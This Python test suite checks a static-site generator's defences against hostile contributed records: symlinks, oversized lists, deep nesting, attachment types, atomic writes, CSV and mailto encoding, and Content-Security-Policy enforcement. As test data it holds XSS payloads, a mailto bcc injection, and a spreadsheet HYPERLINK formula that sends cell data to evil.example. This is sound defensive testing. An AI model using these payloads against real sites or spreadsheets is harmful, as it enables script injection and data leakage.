"""A stranger's pull request cannot harm the site or the people who use it.

The hostile records themselves are cases in tests/casos/invalidas/ (adjunto-*, email-*,
lista-enorme, anidamiento-profundo, caracter-de-control, control-bidireccional,
contacto-cifrado-otras-claves), checked message by message by test_casos.py. Here: what those
cases cannot show — bounds, warnings, symlinks, atomic rewrites, the build's own defences, the
data downloads, and the Content-Security-Policy in Chromium.
"""
from __future__ import annotations

import ast
import csv
import errno
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from conftest import CASOS, ROOT, URLS, leer_esperado
from generator.validacion.validar import validar

MINIMA = CASOS / "validas" / "fichas" / "arg" / "minima.yml"


def _carpeta(tmp_path: Path, texto: str | None = None, nombre: str = "x.yml") -> Path:
    carpeta = tmp_path / "fichas" / "arg"
    carpeta.mkdir(parents=True, exist_ok=True)
    (carpeta / nombre).write_text(texto if texto is not None else MINIMA.read_text(encoding="utf-8"), encoding="utf-8")
    return tmp_path / "fichas"


# --- 4. personal data in free text: a phone number is a warning ------------------------------

@pytest.mark.parametrize("caso", sorted(p for p in (CASOS / "avisos").iterdir()), ids=lambda p: p.name)
def test_un_aviso_se_muestra_y_no_impide_publicar(caso, monkeypatch):
    _, esperado = leer_esperado(caso)
    monkeypatch.chdir(caso)
    res = validar(Path("fichas"))
    assert res.ok, [str(p) for p in res.problemas]
    assert [str(p) for p in res.problemas] == esperado
    assert "aviso" in res.resumen()


def test_un_aviso_es_una_advertencia_de_github(monkeypatch, capsys):
    from generator.validacion.informes import reporte_github
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    monkeypatch.chdir(CASOS / "avisos" / "telefono-en-texto")
    reporte_github(validar(Path("fichas")), __import__("sys").stdout)
    salida = capsys.readouterr().out
    assert salida.startswith("::warning file=fichas/arg/x.yml,line=")
    assert "::error" not in salida


@pytest.mark.parametrize("texto", [
    "Ley 25.871 de 2004 y Decreto 70/2017; 1.234.567 personas entre 2015-2019.",
    "Resolución N.° 1250-2006; expediente 2019-01-00123; 125 000 000 de dólares.",
])
def test_cifras_y_normas_no_son_telefonos(tmp_path, texto):
    fichas = _carpeta(tmp_path, MINIMA.read_text(encoding="utf-8").replace("resumen: Resumen breve.", f"resumen: {texto}"))
    res = validar(fichas)
    assert [str(p) for p in res.problemas] == []


def test_el_correo_publico_de_la_ficha_puede_citarse_en_el_texto(tmp_path):
    base = MINIMA.read_text(encoding="utf-8")
    publico = next(l.split(": ", 1)[1] for l in base.splitlines() if "email_institucional:" in l)
    fichas = _carpeta(tmp_path, base.replace("resumen: Resumen breve.", f"resumen: Consultas a {publico}."))
    assert validar(fichas).ok


# --- 7. a huge list is refused by maxItems before any other check ----------------------------

def test_la_lista_enorme_se_rechaza_antes_de_comprobar_unicidad(monkeypatch):
    from generator.validacion import validar as modulo

    def no_debe_llamarse(*a, **k):
        raise AssertionError("la validación del esquema (y su unicidad cuadrática) no debía correr")

    monkeypatch.setattr(modulo, "validador", no_debe_llamarse)
    monkeypatch.setattr(modulo, "REGLAS", (no_debe_llamarse,))
    monkeypatch.chdir(CASOS / "invalidas" / "lista-enorme")
    res = modulo.validar(Path("fichas"))
    assert [p.texto for p in res.problemas] == [
        "la lista tiene 40000 elementos; el máximo es 100. Deje los principales y borre el resto "
        "(o reúna los parecidos en un solo elemento)."]


def test_miles_de_claves_se_rechazan_antes_de_buscar_parecidos(tmp_path, monkeypatch):
    from generator.validacion import validar as modulo
    monkeypatch.setattr(modulo, "validador", lambda *a: (_ for _ in ()).throw(AssertionError("no debía correr")))
    texto = MINIMA.read_text(encoding="utf-8") + "".join(f"clave{i}: x\n" for i in range(5000))
    res = modulo.validar(_carpeta(tmp_path, texto))
    assert [p.texto for p in res.problemas] == [
        "hay 5015 claves en un mismo bloque; el máximo es 200 y la ficha tiene muchas menos. Revise que el archivo "
        "sea una ficha: use la plantilla de /contribuir/."]


def test_toda_lista_del_esquema_tiene_maximo():
    from generator.esquema.campos import FICHA, PERFIL

    def listas(nodo, ruta=""):
        if isinstance(nodo, dict):
            if nodo.get("type") == "array" and "properties" not in ruta.rsplit("/", 1)[-1]:
                yield ruta, nodo
            for k, v in nodo.items():
                yield from listas(v, f"{ruta}/{k}")
        elif isinstance(nodo, list):
            for i, v in enumerate(nodo):
                yield from listas(v, f"{ruta}/{i}")

    for tipo in (FICHA, PERFIL):
        esquema = json.loads(tipo.esquema_path.read_text(encoding="utf-8"))
        sin_maximo = [r for r, n in listas(esquema) if "maxItems" not in n and "/if/" not in r]  # conditions read, never bound
        assert sin_maximo == [], f"{tipo.nombre}: listas sin maxItems: {sin_maximo}"


# --- 8. deep nesting: a message, never a RecursionError ---------------------------------------

@pytest.mark.parametrize("abre", ["[", "{a: ", "- "])
def test_anidamiento_profundo_da_un_mensaje(tmp_path, abre):
    texto = "titulo: " + abre * 1000 + "\n"
    if abre == "- ":
        texto = "titulo:\n" + "".join("  " * i + "-\n" for i in range(200)) + "  " * 200 + "- x\n"
    res = validar(_carpeta(tmp_path, texto))
    assert not res.ok
    assert any("niveles de listas o subcampos" in p.texto for p in res.problemas), [str(p) for p in res.problemas]


# --- 12. symlinks: a record or an attachment that points elsewhere is refused ----------------

def test_ficha_que_es_un_enlace_simbolico_se_rechaza(tmp_path):
    fichas = _carpeta(tmp_path)
    secreto = tmp_path / "fuera.yml"
    shutil.copy(MINIMA, secreto)
    (fichas / "arg" / "enlace.yml").symlink_to(secreto)
    res = validar(fichas)
    assert not res.ok
    assert [p.texto.split(":")[0] for p in res.problemas] == ["«enlace.yml» es un enlace simbólico, no una ficha"]
    assert [f.slug for f in res.fichas] == ["x"]  # the link's target was never read as a ficha


def test_carpeta_de_pais_enlazada_se_rechaza(tmp_path):
    fichas = _carpeta(tmp_path)
    otra = tmp_path / "otra"
    otra.mkdir()
    shutil.copy(MINIMA, otra / "y.yml")
    (fichas / "bra").symlink_to(otra, target_is_directory=True)
    res = validar(fichas)
    assert not res.ok and "«bra» es un enlace simbólico, no una carpeta" in str(res.problemas[0])


def test_validar_un_enlace_simbolico_por_su_nombre_lo_rechaza(tmp_path):
    from generator.validacion.validar import alcance
    fichas = _carpeta(tmp_path)
    (fichas / "arg" / "enlace.yml").symlink_to(tmp_path / "fichas" / "arg" / "x.yml")
    raiz, solo = alcance(fichas / "arg" / "enlace.yml")
    res = validar(raiz, solo=solo)
    assert not res.ok and "enlace simbólico" in res.problemas[0].texto


def test_adjunto_que_es_un_enlace_simbolico_se_rechaza(tmp_path):
    base = MINIMA.read_text(encoding="utf-8")
    fichas = _carpeta(tmp_path, base + "documentos:\n  - titulo: Anexo\n    archivo: anexos/informe.pdf\n")
    (fichas / "arg" / "anexos").mkdir()
    real = fichas / "arg" / "real.pdf"
    real.write_bytes(b"%PDF-1.4\n%%EOF\n")
    (fichas / "arg" / "anexos" / "informe.pdf").symlink_to(real)
    res = validar(fichas)
    assert [p.texto for p in res.problemas] == [
        "«anexos/informe.pdf» es un enlace simbólico, no un archivo. Copie el archivo real en la carpeta «arg/» "
        "y escriba su ruta."]


# --- 1. attachments: what the allow-list accepts ---------------------------------------------

def _docx_minimo(ruta: Path, extra: dict[str, bytes] | None = None) -> None:
    import zipfile
    with zipfile.ZipFile(ruta, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        for k, v in (extra or {}).items():
            z.writestr(k, v)


@pytest.mark.parametrize("nombre,contenido,acepta", [
    ("a.pdf", b"%PDF-1.7\n", True),
    ("a.png", b"\x89PNG\r\n\x1a\n0000", True),
    ("a.jpg", b"\xff\xd8\xff\xe0", True),
    ("a.csv", "año;cantidad\n2020;5\n".encode("cp1252"), True),
    ("a.txt", "5 < 6 y 7 > 3".encode(), True),
    ("a.docx", None, True),
    ("a.docm", None, False),
    ("a.html", b"<p>hola</p>", False),
    ("a.htm", b"<p>hola</p>", False),
    ("a.svg", b"<svg/>", False),
    ("a.xhtml", b"<html/>", False),
    ("a.js", b"alert(1)", False),
    ("a.md", b"# x", False),
    ("a", b"%PDF-1.7", False),
    ("a.PDF.html", b"%PDF-1.7", False),
    ("a.png", b"<svg onload=alert(1)>", False),
    ("a.txt", b"<!DOCTYPE html><script>alert(1)</script>", False),
    ("a.csv", b"x\n<iframe src=//evil>", False),
    ("a.txt", b"\x00\x01binario", False),
    ("a.docx", b"PK\x03\x04no es un zip", False),
])
def test_lista_de_adjuntos_permitidos(tmp_path, nombre, contenido, acepta):
    from generator.validacion.adjuntos import problema_de_adjunto
    ruta = tmp_path / nombre
    if contenido is None:
        _docx_minimo(ruta, {"word/vbaProject.bin": b"macro"} if nombre.endswith(".docm") else None)
    else:
        ruta.write_bytes(contenido)
    assert (problema_de_adjunto(ruta, nombre) is None) is acepta


def test_documento_de_office_con_macros_se_rechaza(tmp_path):
    from generator.validacion.adjuntos import problema_de_adjunto
    ruta = tmp_path / "a.docx"
    _docx_minimo(ruta, {"word/vbaProject.bin": b"macro"})
    assert "macros" in problema_de_adjunto(ruta, "a.docx")


def test_la_construccion_nunca_publica_un_adjunto_activo_aunque_falte_la_validacion(tmp_path):
    """Defence in depth: the writer refuses what validation would have refused."""
    from generator.publicacion.escritura import ErrorDeEscritura, escribir
    from generator.publicacion.modelo import desde_datos
    from generator.validacion.lectura import leer_bytes
    fichas = _carpeta(tmp_path, MINIMA.read_text(encoding="utf-8") + "documentos:\n  - titulo: A\n    archivo: anexos/a.html\n")
    (fichas / "arg" / "anexos").mkdir()
    (fichas / "arg" / "anexos" / "a.html").write_bytes(b"<script>alert(1)</script>")
    datos = leer_bytes((fichas / "arg" / "x.yml").read_bytes()).data
    with pytest.raises(ErrorDeEscritura, match=r"a\.html"):
        escribir([desde_datos(datos, "arg", "x")], tmp_path / "generado", fichas, estaticos=tmp_path / "estaticos", **URLS)
    assert not list(tmp_path.rglob("generado/**/a.html")) and not list(tmp_path.rglob("estaticos/**/a.html"))


def test_la_construccion_rechaza_un_adjunto_sobre_un_archivo_generado(tmp_path):
    from generator.publicacion.escritura import ErrorDeEscritura, escribir
    from generator.publicacion.modelo import desde_datos
    from generator.validacion.lectura import leer_bytes
    fichas = _carpeta(tmp_path, MINIMA.read_text(encoding="utf-8") + "documentos:\n  - titulo: A\n    archivo: x.pdf\n")
    (fichas / "arg" / "x.pdf").write_bytes(b"%PDF-1.4\n")
    datos = leer_bytes((fichas / "arg" / "x.yml").read_bytes()).data
    f = desde_datos(datos, "arg", "x")
    propio = tmp_path / "propio.pdf"
    propio.write_bytes(b"%PDF-1.4 generado\n")
    with pytest.raises(ErrorDeEscritura, match=r"fichas/arg/x\.yml.*fichas/arg/x\.pdf"):
        escribir([f], tmp_path / "generado", fichas, publicar={"fichas/arg/x.pdf": propio}, estaticos=tmp_path / "estaticos", **URLS)


# --- 3 and 5. mailto and the data downloads ---------------------------------------------------

def test_mailto_codifica_cada_parte():
    from generator.publicacion.paginas import Paginas
    p = Paginas([], lambda d: None, "https://example.org/", "https://github.com/x/y", [])
    enlace = p.contactar(["a@b.org?bcc=x@evil.example&x=1"], "Asunto & más", "Cuerpo\n?bcc=y")
    destinatario, _, consulta = enlace.removeprefix("mailto:").partition("?")
    assert "?" not in destinatario and "&" not in destinatario and "=" not in destinatario
    assert destinatario == "a@b.org%3Fbcc%3Dx@evil.example%26x%3D1"
    assert consulta.startswith("cc=")
    assert [k.split("=")[0] for k in consulta.split("&")] == ["cc", "subject", "body"]


def test_el_enlace_de_un_correo_en_la_pagina_va_codificado():
    from generator.publicacion.paginas import mailto
    assert mailto("info@migraciones.gob.ar") == "mailto:info@migraciones.gob.ar"
    assert mailto("a@b.org?bcc=x@evil.example") == "mailto:a@b.org%3Fbcc%3Dx@evil.example"


def test_csv_neutraliza_formulas_y_json_conserva_el_texto():
    from generator.esquema.campos import FICHA
    from generator.publicacion.datos import exportar_csv, exportar_json, registro
    from generator.publicacion.modelo import desde_datos
    from generator.validacion.lectura import leer_bytes
    peligrosos = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+54 11 1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    datos = leer_bytes(MINIMA.read_bytes()).data
    datos["resumen"] = peligrosos[0]
    datos["entidades_asociadas"] = peligrosos[1:]
    datos["titulo"] = "-5 % de espera"
    r = registro(desde_datos(datos, "arg", "x"), "https://example.org/", None)
    filas = list(csv.reader(io.StringIO(exportar_csv([r]).lstrip("\ufeff"))))
    cabecera, fila = filas[0], filas[1]
    celdas = dict(zip(cabecera, fila))
    peligrosas = [c for c in fila if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert peligrosas == []
    assert celdas["resumen"] == "'" + peligrosos[0]
    assert celdas["titulo"] == "'-5 % de espera"
    exportado = json.loads(exportar_json([r]))
    texto = json.dumps(exportado, ensure_ascii=False)
    assert json.dumps(peligrosos[0], ensure_ascii=False) in texto  # the JSON keeps the text exactly
    assert '"-5 % de espera"' in texto
    assert FICHA.nombre == "ficha"


# --- 10. atomic rewrites ----------------------------------------------------------------------

def test_cifrar_con_el_disco_lleno_deja_la_ficha_intacta(tmp_path, clave_de_prueba, monkeypatch):
    from conftest import escribir_contacto_en_claro
    from generator import archivos
    from generator.privacidad.cifrado import leer_destinatarios
    from generator.privacidad.reescritura import cifrar_archivo
    from generator.validacion.validar import schema
    fichas = _carpeta(tmp_path)
    ruta = fichas / "arg" / "x.yml"
    escribir_contacto_en_claro(ruta, {"nombre": "Ana Pérez", "cargo": "Jefa", "email": "ana@example.org"})
    antes = ruta.read_bytes()

    def disco_lleno(fd):
        raise OSError(errno.ENOSPC, "No queda espacio en el disco")

    monkeypatch.setattr(archivos.os, "fsync", disco_lleno)
    with pytest.raises(OSError):
        cifrar_archivo(ruta, schema(), leer_destinatarios(clave_de_prueba.destinatarios))
    assert ruta.read_bytes() == antes  # not cut: the clear contact is still there
    assert sorted(p.name for p in ruta.parent.iterdir()) == ["x.yml"]  # no temporary file left


def test_escribir_atomico_conserva_el_original_ante_cualquier_fallo(tmp_path, monkeypatch):
    from generator import archivos
    ruta = tmp_path / "a.yml"
    ruta.write_text("original\n", encoding="utf-8")
    os.chmod(ruta, 0o640)
    monkeypatch.setattr(archivos.os, "replace", lambda a, b: (_ for _ in ()).throw(OSError(errno.EIO, "E/S")))
    with pytest.raises(OSError):
        archivos.escribir_atomico(ruta, "nuevo y más largo\n")
    assert ruta.read_text(encoding="utf-8") == "original\n"
    assert [p.name for p in tmp_path.iterdir()] == ["a.yml"]
    monkeypatch.undo()
    archivos.escribir_atomico(ruta, "nuevo\n")
    assert ruta.read_text(encoding="utf-8") == "nuevo\n" and (ruta.stat().st_mode & 0o777) == 0o640


def test_crear_atomico_nunca_reemplaza(tmp_path):
    from generator import archivos
    ruta = tmp_path / "a.yml"
    archivos.crear_atomico(ruta, "uno\n")
    with pytest.raises(FileExistsError):
        archivos.crear_atomico(ruta, "dos\n")
    assert ruta.read_text(encoding="utf-8") == "uno\n" and [p.name for p in tmp_path.iterdir()] == ["a.yml"]


# Where the package may write with write_text/write_bytes directly: the generated tree, caches and
# the synthetic fichas of the benchmark — never a record, a key list or a file the person keeps.
ESCRITURA_DIRECTA_PERMITIDA = {"generator/publicacion/escritura.py", "generator/publicacion/pdf.py",
                               "generator/publicacion/seguridad.py", "generator/sintetico.py"}


def test_ninguna_orden_reescribe_un_archivo_sin_hacerlo_atomico():
    directas = []
    for ruta in sorted((ROOT / "generator").rglob("*.py")):
        rel = ruta.relative_to(ROOT).as_posix()
        if rel in ESCRITURA_DIRECTA_PERMITIDA:
            continue
        for nodo in ast.walk(ast.parse(ruta.read_text(encoding="utf-8"))):
            if isinstance(nodo, ast.Attribute) and nodo.attr in ("write_text", "write_bytes"):
                directas.append(f"{rel}:{nodo.lineno}")
            if isinstance(nodo, ast.Call) and getattr(nodo.func, "id", "") == "open" and len(nodo.args) > 1 \
                    and isinstance(nodo.args[1], ast.Constant) and "w" in str(nodo.args[1].value):
                directas.append(f"{rel}:{nodo.lineno}")
    assert directas == [], "escriba con generator.archivos.escribir_atomico: " + ", ".join(directas)


# --- 12. the Content-Security-Policy ----------------------------------------------------------

def test_cada_pagina_lleva_su_politica_con_los_scripts_en_linea_por_hash(sitio):
    import re
    from generator.publicacion.seguridad import MARCA, politica
    paginas = sorted(sitio.rglob("*.html"))
    assert len(paginas) > 50
    for ruta in paginas:
        html = ruta.read_text(encoding="utf-8")
        cabeza = html[html.index("<head"):]
        primero = re.search(r"<(meta|script|link|style|title)\b[^>]*>", cabeza[cabeza.index(">") + 1:])
        assert primero and MARCA in primero.group(0), f"{ruta.relative_to(sitio)}: la política no es lo primero del <head>"
        assert html.count(MARCA) == 1
        sin_meta = html.replace(primero.group(0), "", 1)
        assert f'content="{politica(sin_meta)}"' in primero.group(0)
        assert "'unsafe-inline'" not in primero.group(0).split("script-src", 1)[1].split(";", 1)[0]
    formulario = (sitio / "proponer" / "index.html").read_text(encoding="utf-8")
    inicio = (sitio / "index.html").read_text(encoding="utf-8")
    assert "'unsafe-eval'" in formulario and "'unsafe-eval'" not in inicio


def test_los_adjuntos_se_publican_como_archivos_estaticos(sitio, fichas_de_prueba):
    for rel in ("anexos/manual.pdf", "anexos/planilla.csv", "anexos/nota.txt"):
        publicado = sitio / "fichas" / "chl" / rel
        assert publicado.read_bytes() == (fichas_de_prueba / "chl" / rel).read_bytes()
    assert not list(sitio.rglob("anexos/*/index.html"))


def test_ningun_script_de_una_ficha_corre_en_ninguna_pagina(navegador, servidor, sitio):
    """Every page of the site built with the hostile fichas and attachments, in Chromium: no
    dialog opens and nothing is blocked or fails (a policy that broke the site's own scripts
    would show here as a console error)."""
    ctx = navegador.new_context(viewport={"width": 1280, "height": 900})
    p = ctx.new_page()
    dialogos, errores = [], []
    p.on("dialog", lambda d: (dialogos.append(d.message), d.dismiss()))
    p.on("console", lambda m: errores.append(f"{p.url}: {m.text}") if m.type == "error" else None)
    p.on("pageerror", lambda e: errores.append(f"{p.url}: {e}"))
    paginas = sorted(r.relative_to(sitio).as_posix() for r in sitio.rglob("index.html"))
    for rel in paginas:
        p.goto(servidor + rel.removesuffix("index.html"), wait_until="load")
    p.goto(servidor + "explorar/?q=alert")
    p.wait_for_selector("#explorar[data-estado=listo]")
    p.goto(servidor + "fichas/chl/anexos/nota.txt")
    assert dialogos == []
    assert errores == []
    ctx.close()


def test_la_politica_bloquea_un_script_que_se_colara_en_una_pagina(navegador, servidor):
    """If a record's text ever reached a page unescaped, its script would still not run."""
    ctx = navegador.new_context()
    p = ctx.new_page()
    dialogos, bloqueos = [], []
    p.on("dialog", lambda d: (dialogos.append(d.message), d.dismiss()))
    p.on("console", lambda m: bloqueos.append(m.text) if "Content Security Policy" in m.text else None)
    url = servidor + "fichas/arg/patria-grande/"

    def inyectar(route):
        r = route.fetch()
        html = r.text().replace("</h1>", "</h1><script>alert('colado')</script>"
                                "<img src=x onerror=\"alert('atributo')\">", 1)
        route.fulfill(response=r, body=html)

    p.route(url, inyectar)
    p.goto(url, wait_until="load")
    assert dialogos == []
    assert len(bloqueos) >= 2
    ctx.close()
